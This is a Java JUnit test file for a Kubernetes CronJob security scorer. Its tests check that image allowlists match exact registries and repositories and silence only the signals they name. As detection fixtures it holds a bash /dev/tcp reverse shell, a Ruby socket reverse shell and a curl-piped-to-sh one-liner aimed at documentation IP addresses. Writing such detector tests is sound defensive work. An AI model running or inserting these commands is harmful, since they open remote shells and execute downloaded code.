package dev.cronsentinel.score;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;
import dev.cronsentinel.config.ConfigException;
import dev.cronsentinel.model.ContainerSpec;
import dev.cronsentinel.model.EventRole;
import dev.cronsentinel.model.PodTemplate;
import dev.cronsentinel.model.ScoredEvent;
import dev.cronsentinel.model.Signal;
import dev.cronsentinel.model.VolumeSpec;
import dev.cronsentinel.model.WorkloadEvent;
import dev.cronsentinel.testing.TestData;
import java.nio.file.Files;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Issue 16, row 3: an allowlist cannot be borrowed. An image entry matches registry and repository (not the
 * repository name on any registry), silences only the signal ids it names, and never a command signal it does
 * not name; what it silences is still counted.
 */
class AllowlistBorrowingTest {
    private static final Scorer SCORER = ScorerTest.SCORER;
    private static final String REVERSE_SHELL = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1";
    private static final String RUBY_SHELL =
            "ruby -rsocket -e 'c=TCPSocket.new(\"198.51.100.7\",4444);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'";

    static ContainerSpec agent(String image, List<String> command, Boolean privileged, Long runAsUser) {
        return new ContainerSpec("spec.containers[0]", "agent", image, command, List.of(), List.of(), privileged, null, runAsUser, null,
                List.of(), List.of());
    }

    static WorkloadEvent event(String namespace, String actor, Boolean hostPID, List<ContainerSpec> containers, String... hostPaths) {
        List<VolumeSpec> volumes = new java.util.ArrayList<>();
        for (int i = 0; i < hostPaths.length; i++) {
            volumes.add(new VolumeSpec("spec.volumes[" + i + "]", "v" + i, hostPaths[i]));
        }
        PodTemplate t = new PodTemplate("requestObject", "spec", null, hostPID, null, null, null, containers, volumes);
        return new WorkloadEvent("a1", 0L, "t", "create", "cronjobs", namespace, "agent", null, actor, List.of(), "ua", "1.2.3.4",
                201, "allow", "RequestResponse", false, null, null, null, null, "* * * * *", null, null, false, false, List.of(t), "o");
    }

    static List<String> rules(ScoredEvent s) {
        return s.signals().stream().map(Signal::rule).toList();
    }

    @Test
    void aLogAgentNameOnAnotherRegistryIsNotTheLogAgent() {
        for (String image : List.of("evil.example.com/fluentd:1", "evil.example.com/fluent/fluentd:v1.16", "ghcr.io/fluent/fluent-bit:3",
                "docker.io/evilcorp/fluentd", "localhost:5000/grafana/promtail")) {
            ScoredEvent s = SCORER.score(event("kube-system", "mallory", true,
                    List.of(agent(image, List.of("sh", "-c", REVERSE_SHELL), true, null)), "/"), EventRole.WORKLOAD);
            assertThat(s.alertable()).as(image).isTrue();
            assertThat(s.allowlistedBy()).as(image).isNull();
            assertThat(rules(s)).as(image).contains("privileged-container", "host-pid", "sensitive-mount", "reverse-shell-dev-tcp");
        }
    }

    @Test
    void theRealLogAgentImageRunningARubyShellStillAlerts() {
        ScoredEvent s = SCORER.score(event("logging", "mallory", null,
                List.of(agent("fluent/fluentd:v1.16-1", List.of("sh", "-c", RUBY_SHELL), null, null)), "/var/log"), EventRole.WORKLOAD);
        assertThat(s.alertable()).isTrue();
        assertThat(rules(s)).contains("interpreter-reverse-shell").doesNotContain("hostpath-volume");
        assertThat(s.allowlistedBy()).isEqualTo("node-log-agents");
    }

    @Test
    void theGenuineFluentdDaemonSetSpecStaysQuiet() {
        for (String image : List.of("fluent/fluentd-kubernetes-daemonset:v1.16-debian-elasticsearch8-1", "fluentd:v1.16",
                "docker.io/library/fluentd", "index.docker.io/fluent/fluentd:v1.17", "cr.fluentbit.io/fluent/fluent-bit:3.1")) {
            ScoredEvent s = SCORER.score(event("kube-system", "system:serviceaccount:kube-system:daemon-set-controller", true,
                    List.of(agent(image, List.of(), null, 0L)), "/var/log", "/var/lib/docker/containers"), EventRole.WORKLOAD);
            assertThat(s.signals()).as(image).isEmpty();
            assertThat(s.alertable()).as(image).isFalse();
            assertThat(s.allowlistedBy()).as(image).isEqualTo("node-log-agents");
        }
    }

    @Test
    void anEntrySilencesOnlyTheSignalsItNames() {
        // Privileged is not among what node-log-agents silences: a privileged "log agent" keeps that signal.
        ScoredEvent s = SCORER.score(event("logging", "alice", null, List.of(agent("fluent/fluent-bit:3", List.of(), true, null)), "/var/log"),
                EventRole.WORKLOAD);
        assertThat(rules(s)).containsExactly("privileged-container");
        // The airflow actor's entry names python one-liners, not a download piped to a shell.
        ScoredEvent airflow = SCORER.score(event("data-pipelines", "system:serviceaccount:data-pipelines:airflow", null,
                List.of(agent("python:3.12", List.of("python", "-c", "import os; os.system('curl -s http://203.0.113.9/x | sh')"), null, null))),
                EventRole.WORKLOAD);
        assertThat(rules(airflow)).contains("download-pipe-shell").doesNotContain("interpreter-one-liner", "language-runtime-image");
        assertThat(airflow.alertable()).isTrue();
    }

    @Test
    void silencedSignalsAreCounted() {
        Scorer.Verdict v = SCORER.evaluate(event("kube-system", "alice", true,
                List.of(agent("fluent/fluentd:v1.16-1", List.of(), null, 0L)), "/var/log", "/var/lib/docker/containers"), EventRole.WORKLOAD);
        // host-pid, run-as-root, two hostPath volumes, one sensitive mount (/var/lib/docker).
        assertThat(v.silencedByEntry()).isEqualTo(Map.of("node-log-agents", 5));
        assertThat(SCORER.evaluate(event("logging", "alice", null, List.of(agent("registry.example.com/app:1", List.of(), null, null))),
                EventRole.WORKLOAD).silencedByEntry()).isEmpty();
    }

    @Test
    void imageEntriesCompareRegistryRepositoryTagAndDigest() {
        ImageReference pinned = ImageReference.parse("docker.io/fluent/fluentd@sha256:" + "a".repeat(64));
        assertThat(pinned.admits(ImageReference.parse("fluent/fluentd:v1@sha256:" + "a".repeat(64)))).isTrue();
        assertThat(pinned.admits(ImageReference.parse("fluent/fluentd:v1"))).isFalse();
        assertThat(pinned.admits(ImageReference.parse("fluent/fluentd@sha256:" + "b".repeat(64)))).isFalse();
        ImageReference tagged = ImageReference.parse("fluent/fluentd:v1.16");
        assertThat(tagged.admits(ImageReference.parse("docker.io/fluent/fluentd:v1.16"))).isTrue();
        assertThat(tagged.admits(ImageReference.parse("fluent/fluentd:latest"))).isFalse();
        ImageReference official = ImageReference.parse("docker.io/library/fluentd");
        assertThat(official.canonical()).isEqualTo("docker.io/library/fluentd");
        assertThat(official.admits(ImageReference.parse("FLUENTD:v1"))).isTrue();
        assertThat(official.admits(ImageReference.parse("registry-1.docker.io/library/fluentd"))).isTrue();
        assertThat(official.admits(ImageReference.parse("fluent/fluentd"))).isFalse();
        assertThat(official.admits(ImageReference.parse(null))).isFalse();
    }

    @Test
    void allowlistEntriesThatCouldBeBorrowedAreRejectedAtStart() throws Exception {
        String base = Files.readString(TestData.projectRoot().resolve("conf/rules/default.yaml"));
        String scanners = "    images: [docker.io/aquasec/kube-bench, docker.io/aquasec/trivy, ghcr.io/aquasecurity/trivy]\n";
        Map<String, String[]> cases = Map.of(
                "the old pattern key", new String[] {scanners, "    image: '^aquasec/kube-bench$'\n", "unknown key 'image'"},
                "a pattern among images", new String[] {scanners, "    images: ['^aquasec/.*']\n", "is not an image reference"},
                "no silences", new String[] {"    silences: [hostpath-volume, sensitive-mount, host-pid, host-network, run-as-root]\n", "", "silences: is required"},
                "an unknown signal", new String[] {"[hostpath-volume, sensitive-mount, host-pid, host-network, run-as-root]",
                    "[hostpath-volume, everything]", "unknown signal 'everything'"},
                "an unknown rule", new String[] {"silences: [shell-command:interpreter-one-liner", "silences: [shell-command:no-such-rule", "unknown rule 'shell-command:no-such-rule'"},
                "unscored with images", new String[] {"[hostpath-volume, sensitive-mount, host-pid, host-network, run-as-root]",
                    "[hostpath-volume, unscored]", "'unscored' needs an entry without images"});
        for (Map.Entry<String, String[]> c : cases.entrySet()) {
            String[] edit = c.getValue();
            assertThat(base).as(c.getKey()).contains(edit[0]);
            String text = base.replaceFirst(java.util.regex.Pattern.quote(edit[0]), java.util.regex.Matcher.quoteReplacement(edit[1]));
            assertThatThrownBy(() -> RuleSetLoader.parse(new ObjectMapper(new YAMLFactory()).readTree(text), "x.yaml"))
                    .as(c.getKey()).isInstanceOf(ConfigException.class).hasMessageContaining("allowlists.").hasMessageContaining(edit[2]);
        }
    }
}
